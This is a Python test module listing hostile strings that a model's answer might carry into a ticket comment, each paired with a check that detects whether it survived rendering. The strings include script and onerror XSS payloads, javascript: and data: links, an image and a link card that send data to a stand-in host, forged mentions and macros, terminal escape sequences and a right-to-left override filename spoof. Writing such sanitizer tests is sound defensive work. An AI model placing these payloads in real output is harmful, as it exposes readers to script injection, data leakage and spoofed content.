"""Attacks by the answer: what the comment on the ticket is made of. Nothing of it is refused; it becomes plain."""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

PLAIN = "nothing is refused: it is made plain"


@dataclass(frozen=True)
class Trick:
    """Text of an answer, and how a document shows that it worked."""

    name: str
    text: str
    worked: Callable[[Mapping[str, Any]], bool]


def nodes(document: Any) -> Iterator[Mapping[str, Any]]:
    """Every node and mark of a document."""
    if isinstance(document, Mapping):
        yield document
        document = list(document.values())
    for inner in document if isinstance(document, list) else ():
        yield from nodes(inner)


def _has(kind: str) -> Callable[[Mapping[str, Any]], bool]:
    return lambda document: any(node.get("type") == kind for node in nodes(document))


def _links_to(*schemes: str) -> Callable[[Mapping[str, Any]], bool]:
    return lambda document: any(
        str(node.get("attrs", {}).get("href", "")).startswith(schemes) for node in nodes(document)
    )


def _shows(character: str) -> Callable[[Mapping[str, Any]], bool]:
    return lambda document: any(character in str(node.get("text", "")) for node in nodes(document))


TRICKS = (
    Trick("a mention", "[~accountid:5b10] @[Somebody](5b10) <mention id='5b10'/>", _has("mention")),
    Trick("a mention as a node", '{"type": "mention", "attrs": {"id": "5b10"}}', _has("mention")),
    Trick("raw HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>", _has("extension")),
    Trick("a macro", "{html}<b>x</b>{html} {include:x}", _has("bodiedExtension")),
    Trick(
        "a link that is a program",
        "[x](javascript:alert(1)) [y](data:text/html,x)",
        _links_to("javascript:", "data:"),
    ),
    Trick("a picture that calls home", "![x](http://a.example/?carried)", _has("media")),
    Trick("a card that calls home", "https://a.example/carried", _has("inlineCard")),
    Trick("a terminal escape", "before \x1b]0;title\x07\x1b[2J after", _shows("\x1b")),
    Trick("a text that runs backwards", "before \u202etxt.exe\u202c after", _shows("\u202e")),
)
SCHEMA: dict[str, Any] = {
    "type": "object",
    "additionalProperties": False,
    "required": ["summary"],
    "properties": {"summary": {"type": "string"}, "tricks": {"type": "array", "items": {"type": "string"}}},
}
REPORT = {"summary": "s", "tricks": [trick.text for trick in TRICKS]}
